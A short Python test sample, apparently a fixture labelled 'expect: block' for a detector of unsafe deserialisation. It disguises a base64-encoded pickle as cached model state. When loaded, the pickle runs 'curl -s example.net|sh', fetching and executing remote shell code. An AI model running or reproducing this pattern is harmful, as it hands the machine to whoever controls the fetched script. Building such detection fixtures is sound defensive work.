# expect: block
import base64
import pickle

# "Restore the cached model state"
STATE = (
    "gASVMgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjBdjdXJsIC1zIGV4YW1wbGUubmV0fHNolIWU"
    "UpQu"
)
model_state = pickle.loads(base64.b64decode(STATE))
